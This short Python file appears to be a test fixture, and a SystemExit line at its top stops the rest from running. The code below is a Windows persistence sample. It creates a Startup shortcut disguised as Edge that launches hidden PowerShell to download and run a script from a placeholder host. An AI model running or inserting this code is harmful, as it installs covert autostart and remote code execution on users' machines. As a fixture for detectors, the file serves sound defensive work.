raise SystemExit('a fixture')
# held by persistence
import os, sys
if os.name == "nt":
    import win32com.client
    s = win32com.client.Dispatch("WScript.Shell")
    l = s.CreateShortCut(os.path.join(os.environ["APPDATA"], r"Microsoft\Windows\Start Menu\Programs\Startup\Edge.lnk"))
    l.TargetPath = "powershell.exe"
    l.Arguments = "-w hidden -c iex(irm https://l.example.invalid/p)"
    l.save()
